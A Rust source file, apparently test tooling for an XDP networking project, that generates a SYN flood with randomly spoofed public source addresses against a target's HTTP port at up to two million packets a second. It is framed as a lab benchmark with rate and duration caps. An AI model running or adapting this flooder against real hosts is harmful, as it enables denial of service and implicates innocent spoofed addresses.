//! The generator: SYNs from random addresses over a raw AF_XDP queue, at a steady rate, for a
//! limited time.

use crate::Flooded;
use anyhow::{Context, Result, ensure};
use fastrand::Rng;
use fs_core::internals::Sum;
use fs_core::{FramePool, TxFrame};
use fs_tests::servers::HTTPD_PORT;
use fs_xdp::{Link, QueueConfig, Umem, UmemConfig, XdpConfig, XdpDevice};
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

/// Longest flood and highest rate: this is a bench for one's own lab.
const SECONDS_MAX: u64 = 120;
const RATE_MAX: u64 = 2_000_000;
const BATCH: usize = 64;
const CHUNKS: u32 = 8192;
/// Length of Ethernet, IPv4 and TCP headers with options.
pub(crate) const SYN_LEN: usize = 14 + 20 + 20 + 20;

pub(crate) fn run(device: &str, mac: &str, own: &str, to: &str, rate: &str, seconds: &str) -> Result<()> {
    let (rate, seconds): (u64, u64) = (rate.parse()?, seconds.parse()?);
    ensure!(rate <= RATE_MAX && seconds <= SECONDS_MAX, "at most {RATE_MAX} a second for {SECONDS_MAX} s");
    let mac: Vec<u8> = mac.split(':').map(|part| u8::from_str_radix(part, 16)).collect::<Result<_, _>>()?;
    let mac: [u8; 6] = mac.try_into().ok().context("a MAC address")?;
    let (_own, to): (Ipv4Addr, Ipv4Addr) = (own.parse()?, to.parse()?);
    // No address is ours: the XDP program passes all received packets to the kernel, for the
    // legitimate clients.
    let device = XdpDevice::attach(device, XdpConfig::default())?;
    let umem = Umem::new(UmemConfig { chunks: CHUNKS, chunk_size: 2048 })?;
    let mut pool = umem.pool(CHUNKS)?;
    let mut link = device.open_queue(0, &umem, &mut pool, QueueConfig::default())?;
    let mut batch: Vec<TxFrame> = Vec::with_capacity(BATCH);
    let mut random = Rng::with_seed(0x5eed);
    let begun = Instant::now();
    let span = Duration::from_secs(seconds);
    let mut sent = 0u64;
    while begun.elapsed() < span {
        let due = (begun.elapsed().as_nanos() as u64).saturating_mul(rate) / 1_000_000_000;
        let wanted = due.saturating_sub(sent).min(BATCH as u64);
        for _ in 0..wanted {
            let Some(mut frame) = pool.alloc() else { break };
            frame.grow_back(SYN_LEN);
            write_syn(pool.bytes_mut(&mut frame), mac, to, &mut random);
            batch.push(TxFrame { frame, checksum: None });
            sent += 1;
        }
        // Called also without new frames, because it reclaims completed ones.
        link.tx(&mut pool, &mut batch)?;
        if wanted < BATCH as u64 {
            // The legitimate clients share this CPU.
            std::thread::sleep(Duration::from_micros(100));
        }
    }
    let result = Flooded { syns: sent, seconds: begun.elapsed().as_secs_f64() };
    println!("{}", serde_json::to_string(&result)?);
    Ok(())
}

/// Writes a SYN as Linux sends it, from a random address in public ranges and a random port.
pub(crate) fn write_syn(out: &mut [u8], mac: [u8; 6], to: Ipv4Addr, random: &mut Rng) {
    let (a, b) = (random.u64(..), random.u64(..));
    let source = Ipv4Addr::new(20 + (a % 80) as u8, (a >> 8) as u8, (a >> 16) as u8, 1 + (a >> 24) as u8 % 254);
    let port = 1024 + (a >> 32) as u16 % 60_000;
    out[..6].copy_from_slice(&mac);
    out[6..14].copy_from_slice(&[2, 0, 0, 0, 0, 1, 8, 0]);
    let ip = &mut out[14..34];
    ip.copy_from_slice(&[0x45, 0, 0, 60, 0, 0, 0x40, 0, 60, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&to.octets());
    let sum = Sum::of(ip).finish();
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let tcp = &mut out[34..SYN_LEN];
    tcp.fill(0);
    tcp[..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&HTTPD_PORT.to_be_bytes());
    tcp[4..8].copy_from_slice(&(b as u32).to_be_bytes());
    tcp[12..16].copy_from_slice(&[0xa0, 2, 0xfa, 0xf0]);
    tcp[20..32].copy_from_slice(&[2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0]);
    tcp[28..32].copy_from_slice(&((b >> 32) as u32).to_be_bytes());
    tcp[36..40].copy_from_slice(&[1, 3, 3, 7]);
    let sum = Sum::pseudo_v4(u32::from(source), u32::from(to), 6, tcp.len() as u32).add(Sum::of(tcp)).finish();
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
}
